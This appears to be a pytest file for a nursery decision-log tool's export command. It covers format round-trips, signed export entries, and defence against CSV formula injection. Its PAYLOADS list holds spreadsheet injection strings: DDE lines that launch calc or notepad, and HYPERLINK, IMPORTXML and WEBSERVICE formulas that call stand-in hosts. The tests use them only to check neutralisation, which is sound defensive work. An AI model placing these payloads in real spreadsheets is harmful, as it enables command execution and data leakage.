"""`infoshare export`: every format round-trips, CSV is safe in Excel, and exports are logged."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import os
import stat
from datetime import date
from html.parser import HTMLParser

import pytest
from support.csv_reference import FORMULA_STARTS, OWASP_FORMULA_STARTS, columns_for, write_csv
from support.people import ALEX, PASSPHRASES, PRIYA, SAM
from support.reading import append_as, read_as
from support.review_log import SCRIPT, payload_for, signers
from support.tricky_log import add_tricky_decisions

from infoshare_cli.checklist.loading import load_question_set
from infoshare_cli.ledger import crypto
from infoshare_cli.ledger.entries import compute_hash
from infoshare_cli.outputs.csv_export import csv_columns, neutralise
from infoshare_cli.reading.records import signature_ok

PASS = PASSPHRASES[ALEX] + "\n"


@pytest.fixture
def review_log(built_review_log):
    log, built = built_review_log
    return log, built.ids


def export(cli, log, out, *args, input=PASS):
    return cli("export", "--by", ALEX, "--out", out, *args, input=input, db=log.path)


def logged(cli, log):
    """`log --json` rows without the reader's own checks (an export comes from a log that
    verified as a whole, so it does not repeat them per decision)."""
    result = cli("log", "--json", "-n", "0", db=log.path)
    assert result.exit_code == 0, result.output
    rows = json.loads(result.stdout)
    assert all(r.pop("checks_ok") is True and r.pop("problems") == [] for r in rows)
    return rows


def exports(cli, log):
    return json.loads(cli("log", "--exports", "--json", db=log.path).stdout)


# --- round trips -----------------------------------------------------------------------------


def test_csv_round_trip_matches_the_log(cli, review_log, tmp_path):
    log, _ = review_log
    out = tmp_path / "out.csv"
    result = export(cli, log, out, "--ids")
    assert result.exit_code == 0, result.output
    raw = out.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
    expected = sorted(logged(cli, log), key=lambda r: r["id"])
    assert [int(r["number"]) for r in rows] == [r["number"] for r in expected]
    for row, review in zip(rows, expected, strict=True):
        for key in ("recorded_at", "case_ref", "outcome", "status", "decided_by"):
            assert row[key] == review[key]
        assert row["cosigned_by"] == (review["cosigned_by"] or "")
        assert row["basis"] == "; ".join(review["basis"])
        for qid, answer in review["answers"].items():
            value = answer["answer"]
            if isinstance(value, dict):
                for pid, sub in value.items():
                    assert row[f"{qid}.{pid}"] == sub["answer"]
                    assert row[f"{qid}.{pid}_reason"] == sub.get("reason", "")
            elif qid != "recorded":
                assert row[qid] == ("; ".join(value) if isinstance(value, list) else value)
                assert row[f"{qid}_reason"] == answer.get("reason", "")
        for pid, answer in (review["outcome_record"] or {}).items():
            assert row[f"outcome_record.{pid}"] == answer["answer"]
        for correction in review["corrections"]:
            assert correction["right"] in row["corrections"]
    # every field quoted
    header_line = raw.decode("utf-8").splitlines()[0]
    assert header_line.startswith('"number","recorded_at"')
    assert "right_way.what" in rows[0] and "purpose_reason" in rows[0]


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_json_round_trip_and_checkable_without_the_database(cli, review_log, tmp_path, fmt):
    log, _ = review_log
    out = tmp_path / f"out.{fmt}"
    with log.open() as ledger:
        head = ledger.head()
    result = export(cli, log, out, "--format", fmt)
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    if fmt == "json":
        data = json.loads(text)
    else:
        lines = [json.loads(line) for line in text.splitlines()]
        assert lines[0]["type"] == "header" and lines[-1]["type"] == "footer"
        assert {line["type"] for line in lines[1:-1]} == {"decision"}
        data = {k: v for k, v in lines[0].items() if k != "type"}
        data["decisions"] = [{k: v for k, v in d.items() if k != "type"} for d in lines[1:-1]]
        data["count"] = lines[-1]["count"]
    assert data["format"] == "infoshare-export/1"
    assert data["setting"] == "Little Acorns Nursery"
    assert data["exported_by"] == ALEX
    assert data["head"] == {"seq": head.seq, "hash": head.hash}
    assert set(data["filters"]) == {"case", "outcome", "status", "since", "until", "by", "search"}
    assert data["count"] == len(data["decisions"]) == 5
    expected = sorted(logged(cli, log), key=lambda r: r["id"])
    shown = [
        {k: v for k, v in d.items() if k not in ("entries", "record_key")}
        for d in data["decisions"]
    ]
    assert shown == expected
    assert all(len(base64.b64decode(d["record_key"])) == 32 for d in data["decisions"])
    keys = data["public_keys"]
    assert all(k["from_seq"] <= head.seq for k in keys)
    # one record per key ever registered (Jo's deactivation at #6 adds none), oldest first
    assert [(k["name"], k["from_seq"]) for k in keys] == [
        (ALEX, 1),
        (PRIYA, 3),
        (SAM, 4),
        ("Jo Baker", 5),
    ]
    assert not any("sealed" in json.dumps(k) for k in keys)
    # each key carries its owner's role history as the register has it: Jo is deactivated
    # by entry #6, so from then on (as ``in_force`` reads it) she is not active
    jo = keys[3]["roles"]
    assert [(r["from_seq"], r["active"]) for r in jo] == [(5, True), (6, False)]
    assert keys[0]["roles"] == [{"from_seq": 1, "role": "manager", "active": True}]
    # Every entry checks out with only what the export carries.
    for decision in data["decisions"]:
        kinds = [e["kind"] for e in decision["entries"]]
        assert kinds[0] == "decision" and decision["entries"][0]["seq"] == decision["id"]
        assert kinds.count("correction") == len(decision["corrections"])
        for e in decision["entries"]:
            assert e["hash"] == compute_hash(
                e["seq"], e["kind"], e["recorded_at"], e["actor"], e["payload"], e["prev_hash"]
            )
            candidates = [
                k for k in keys if k["staff_id"] == e["actor"] and k["from_seq"] <= e["seq"]
            ]
            key = max(candidates, key=lambda k: k["from_seq"])["public_key"]
            assert crypto.verify_signature(key, bytes.fromhex(e["hash"]), e["signature"])


def test_export_passes_verify_export(cli, review_log, tmp_path):
    log, _ = review_log
    out = tmp_path / "e.json"
    assert export(cli, log, out, "--format", "json").exit_code == 0
    result = cli("verify", "--export", out, db=log.path)
    assert result.exit_code == 0, result.output
    assert "5 decisions" in result.stdout
    data = json.loads(out.read_text(encoding="utf-8"))
    data["decisions"][0]["case_ref"] = "C-0000"  # the same check fails on a changed copy
    out.write_text(json.dumps(data), encoding="utf-8")
    assert cli("verify", "--export", out, db=log.path).exit_code == 1


class Collect(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)

    def handle_data(self, data):
        self.text.append(data)


def test_html_and_markdown_exports(cli, review_log, tmp_path):
    log, ids = review_log
    html_out, md_out = tmp_path / "e.html", tmp_path / "e.md"
    assert export(cli, log, html_out, "--format", "html").exit_code == 0
    assert export(cli, log, md_out, "--format", "md").exit_code == 0
    parser = Collect()
    parser.feed(html_out.read_text(encoding="utf-8"))
    parser.close()
    assert "script" not in parser.tags and parser.tags.count("article") == 5
    text = "".join(parser.text)
    assert SCRIPT in text
    for number in range(1, len(ids) + 1):  # each decision under its number, 1 to 5
        assert f"Information sharing decision {number}" in text
    assert "5 decisions exported." in text
    md = md_out.read_text(encoding="utf-8")
    assert md.startswith("# Little Acorns Nursery: information sharing decisions")
    assert md.count("## Information sharing decision ") == 5 and "decision #" not in md
    assert "<script>" not in md and "signature verifies" in md


# --- the export entry ------------------------------------------------------------------------


def test_each_export_is_a_signed_entry_with_the_file_hash(cli, review_log, tmp_path, monkeypatch):
    log, ids = review_log
    monkeypatch.setenv("COLUMNS", "200")
    out = tmp_path / "sub" / "c7.csv"
    out.parent.mkdir()
    result = export(cli, log, out, "--case", "C-7", "--excel")
    assert result.exit_code == 0, result.output
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    digest = hashlib.sha256(data).hexdigest()
    assert digest in result.stdout
    [entry] = exports(cli, log)
    assert entry["exported_by"] == ALEX
    assert entry["format"] == "csv" and entry["count"] == 1
    assert entry["sha256"] == digest
    assert entry["file"] == "c7.csv"  # no folders
    assert entry["filters"]["case"] == "C-7"
    with log.open() as ledger:
        raw = ledger.get(entry["id"])
        assert raw.kind == "export" and signature_ok(ledger, raw)
        assert raw.payload["head"]["seq"] == entry["id"] - 1
    if os.name != "nt":
        assert stat.S_IMODE(out.stat().st_mode) == 0o600
    table = cli("log", "--exports", db=log.path)
    assert "c7.csv" in table.stdout and "Alex Morgan" in table.stdout


def test_refuses_to_overwrite_without_force(cli, review_log, tmp_path):
    log, _ = review_log
    out = tmp_path / "there.csv"
    out.write_text("precious", encoding="utf-8")
    count = log.count()
    result = export(cli, log, out)
    assert result.exit_code == 1
    assert "already exists" in result.stderr and "--force" in result.stderr
    assert out.read_text(encoding="utf-8") == "precious"
    assert log.count() == count  # nothing logged, no passphrase asked
    result = export(cli, log, out, "--force")
    assert result.exit_code == 0, result.output
    assert out.read_text(encoding="utf-8").startswith('"Decision"')
    assert log.count() == count + 1
    assert [p.name for p in tmp_path.iterdir() if "partial" in p.name] == []


def test_default_file_name_has_the_setting_and_date(cli, review_log, tmp_path, monkeypatch):
    log, _ = review_log
    monkeypatch.chdir(tmp_path)
    result = cli("export", "--by", ALEX, "--format", "jsonl", input=PASS, db=log.path)
    assert result.exit_code == 0, result.output
    name = f"little-acorns-nursery-decisions-{date.today().isoformat()}.jsonl"
    lines = (tmp_path / name).read_text(encoding="utf-8").splitlines()
    assert json.loads(lines[0])["type"] == "header"
    footer = json.loads(lines[-1])
    assert (footer["type"], footer["count"], footer["signature"]["count"]) == ("footer", 5, 5)
    again = cli("export", "--by", ALEX, "--format", "jsonl", input=PASS, db=log.path)
    assert again.exit_code == 1 and "already exists" in again.stderr


def test_wrong_passphrase_or_no_name_exports_nothing(cli, review_log, tmp_path):
    log, _ = review_log
    out = tmp_path / "x.csv"
    count = log.count()
    result = export(cli, log, out, input="wrong\n" * 3)
    assert result.exit_code == 1 and "wrong passphrases" in result.stderr
    result = cli("export", "--out", out, input=PASS, db=log.path)
    assert result.exit_code == 1 and "--by NAME" in result.stderr
    result = export(cli, log, out, "--format", "pdf")
    assert result.exit_code == 1 and "csv, json, jsonl, md, html" in result.stderr
    result = export(cli, log, out, "--format", "json", "--excel")
    assert result.exit_code == 1 and "--excel goes with --format csv" in result.stderr
    result = export(cli, log, out, "--since", "someday")
    assert result.exit_code == 1 and "not a date" in result.stderr
    assert not out.exists() and list(tmp_path.iterdir()) == [log.path]
    assert log.count() == count


def test_filters_and_decided_by(cli, review_log, tmp_path):
    log, ids = review_log
    out = tmp_path / "e.json"
    result = export(cli, log, out, "--format", "json", "--decided-by", SAM, "--status", "awaiting")
    assert result.exit_code == 0, result.output
    data = json.loads(out.read_text(encoding="utf-8"))
    assert [d["id"] for d in data["decisions"]] == [ids["awaiting"]]
    assert data["filters"]["by"] == SAM and data["filters"]["status"] == "awaiting co-signature"


def test_empty_log_exports_an_empty_file(cli, staffed_log, tmp_path):
    out = tmp_path / "none.json"
    result = cli("export", "--by", ALEX, "--out", out, "--format", "json", input=PASS,
                 db=staffed_log.path)  # fmt: skip
    assert result.exit_code == 0, result.output
    assert "Exported 0 decisions" in result.stdout
    data = json.loads(out.read_text(encoding="utf-8"))
    assert data["decisions"] == [] and data["count"] == 0


# --- formula injection -----------------------------------------------------------------------

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example","click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C notepad'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
    '=WEBSERVICE("http://x.example")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    " =1+1",
    "=0x41",
    "-",
    "@",
]


def test_neutralise_covers_every_formula_start():
    """OWASP's list (=, +, -, @, tab, carriage return), a line feed and the full-width signs,
    written out in tests/support/csv_reference.py, not taken from the product."""
    assert set(OWASP_FORMULA_STARTS) <= set(FORMULA_STARTS)
    for start in FORMULA_STARTS:
        assert neutralise(start + "x") == "'" + start + "x"
        assert neutralise("  " + start + "x") == "'  " + start + "x"
    assert neutralise("plain") == "plain" and neutralise("") == ""
    assert neutralise("a=b") == "a=b" and neutralise("'=1") == "'=1"
    assert neutralise("   ") == "   "


def test_the_product_columns_are_the_reference_columns(qset):
    assert csv_columns(qset) == columns_for(qset)


def test_the_reference_writer_neutralises_every_payload():
    """The reference CSV writer (tests/support/csv_reference.py) is the oracle the product's
    writer is held to byte for byte below, so it is checked on its own first: payloads with a
    leading tab or line break included, read back with Python's csv reader."""
    qset = load_question_set()
    columns = columns_for(qset)
    reviews = []
    for n, text in enumerate(PAYLOADS, 1):
        reviews.append(
            {
                "number": n,
                "id": n,
                "recorded_at": "2026-11-26T10:00:00.000000Z",
                "case_ref": text,
                "outcome": "do_not_share",
                "status": "awaiting co-signature",
                "decided_by": text,
                "cosigned_by": None,
                "question_set": {},
                "answers": {"purpose": {"answer": "no", "reason": text}},
                "basis": [],
                "cosignatures": [],
                "corrections": [],
            }
        )

    class Sink(io.StringIO):
        pass

    sink = Sink()
    assert write_csv(sink, reviews, qset) == len(PAYLOADS)
    rows = list(csv.reader(io.StringIO(sink.getvalue(), newline="")))
    assert rows[0] == columns
    for row, text in zip(rows[1:], PAYLOADS, strict=True):
        for column in ("case_ref", "decided_by", "purpose_reason"):
            assert row[columns.index(column)] == "'" + text


def test_formula_payloads_typed_into_the_log_are_neutralised_in_the_export(
    cli, staffed_log, tmp_path
):
    """Through the whole tool: signed decisions whose reasons are payloads, exported as CSV."""
    with staffed_log.open() as ledger:
        sam = signers(ledger)[SAM]
        base = payload_for("do_not_share", "C-1")
        for text in PAYLOADS:
            body = json.loads(json.dumps(base))
            body["answers"]["purpose"]["reason"] = text
            body["case_ref"] = "C-1"
            append_as(ledger, "decision", sam, body)
        # A valid co-signature: the export refuses a log that fails verify.
        cosign = {"decision": 7, "decision_hash": ledger.get(7).hash, "verdict": "disagree",
                  "comment": "=1+2"}  # fmt: skip
        append_as(ledger, "cosign", signers(ledger)[ALEX], cosign)
    out = tmp_path / "inj.csv"
    result = cli("export", "--ids", "--by", ALEX, "--out", out, input=PASS, db=staffed_log.path)
    assert result.exit_code == 0, result.output
    with open(out, encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    header, body = rows[0], rows[1:]
    reasons = [row[header.index("purpose_reason")] for row in body]
    assert reasons == ["'" + text for text in PAYLOADS]
    assert body[0][header.index("cosign_comment")] == "'=1+2"
    for row in body:
        for cell in row:
            assert not cell or cell.lstrip(" ")[0] not in FORMULA_STARTS


# --- the export's fast CSV writer ---------------------------------------------------------------


def _both_csvs(ledger, qset, filters, limit=0):
    """The CSV written from review dicts and from flat rows, as bytes."""
    from infoshare_cli.outputs.csv_export import write_csv_flat
    from infoshare_cli.outputs.files import TextSink
    from infoshare_cli.reading.queries import iter_decisions, iter_flat_decisions, staff_names

    outs = []
    for flat in (False, True):
        raw = io.BytesIO()
        sink = TextSink(raw)
        with read_as(ledger):
            if flat:
                rows = iter_flat_decisions(ledger, filters, limit=limit)
                count = write_csv_flat(sink, rows, qset, staff_names(ledger))
            else:
                reviews = iter_decisions(
                    ledger, filters, limit=limit, newest_first=False, with_entries=True
                )
                count = write_csv(sink, reviews, qset)
        outs.append((count, raw.getvalue()))
    return outs


def test_flat_csv_writer_matches_the_review_dict_writer_byte_for_byte(staffed_log):
    """Every status, corrections, revisits, self co-signatures, several co-signatures, and
    cells with quotes, line breaks, NUL, formula starts and unknown answers."""
    from infoshare_cli.reading.filters import make_filters

    tricky = [*PAYLOADS, 'say "no"', "a\r\nb", "nul\x00here", "x\x00=1", "é ✓", "", "  -"]
    with staffed_log.open() as ledger:
        add_tricky_decisions(ledger, signers(ledger), tricky)
        qset = load_question_set()
        cases = [
            make_filters(),
            make_filters(status="awaiting"),
            make_filters(status="agreed"),
            make_filters(status="not-agreed"),
            make_filters(status="superseded"),
            make_filters(status="corrected"),
            make_filters(case="C-1"),
        ]
        for filters in cases:
            for limit in (0, 3):
                (n_dicts, dicts), (n_flat, flat) = _both_csvs(ledger, qset, filters, limit)
                assert n_dicts == n_flat
                assert flat == dicts, (filters, limit)
        (count, whole), _ = _both_csvs(ledger, qset, make_filters())
        assert count == len(tricky) and b"\x00" in whole


def test_flat_csv_writer_matches_on_the_review_log(review_log):
    log, _ = review_log
    with log.open() as ledger:
        (n_dicts, dicts), (n_flat, flat) = _both_csvs(ledger, load_question_set(), None)
    assert n_dicts == n_flat == 5 and flat == dicts


def test_the_csv_for_people_uses_the_question_sets_words(cli, review_log, tmp_path):
    """The default CSV: human headers and answers; --ids gives the machine ids. Both stay
    Excel-safe (the neutralising is the same)."""
    log, ids = review_log
    out = tmp_path / "people.csv"
    result = export(cli, log, out)
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    header = list(rows[0])
    assert header[:3] == ["Decision", "Recorded (UTC)", "Recorded (local time)"]
    assert "Do you have consent to share?" in header
    assert "Reason: Do you have consent to share?" in header
    assert any(h.endswith("— Is sharing it necessary for the purpose?") for h in header), header
    for machine in ("right_way.method_reason", "outcome_record.asked_on", "purpose_reason"):
        assert machine not in header
    for machine in ("share_without_consent", "not_sought", "do_not_share", "referral_form"):
        assert machine not in text
    by_number = {int(r["Decision"]): r for r in rows}
    assert sorted(by_number) == [1, 2, 3, 4, 5]
    assert by_number[1]["Outcome"] == "Share without consent"  # agreed, then corrected
    assert by_number[1]["Co-signer's verdict"] == "agreed"
    assert by_number[5]["Co-signer's verdict"] == "did not agree"
    assert by_number[4]["Takes decision again"] == "3"  # the revisit, by number
    assert by_number[3]["Taken again as decision"] == "4"
    machine = tmp_path / "machine.csv"
    assert export(cli, log, machine, "--ids").exit_code == 0
    assert "share_without_consent" in machine.read_text(encoding="utf-8")


def test_the_csv_for_people_neutralises_formulas_too(cli, staffed_log, tmp_path):
    with staffed_log.open() as ledger:
        sam = signers(ledger)[SAM]
        body = payload_for("do_not_share", "C-1")
        body["answers"]["purpose"]["reason"] = "=HYPERLINK(1)"
        append_as(ledger, "decision", sam, body)
    out = tmp_path / "people.csv"
    result = cli("export", "--by", ALEX, "--out", out, input=PASS, db=staffed_log.path)
    assert result.exit_code == 0, result.output
    with open(out, encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert "'=HYPERLINK(1)" in rows[-1]
    for row in rows:
        for cell in row:
            assert not cell or cell.lstrip(" ")[0] not in FORMULA_STARTS
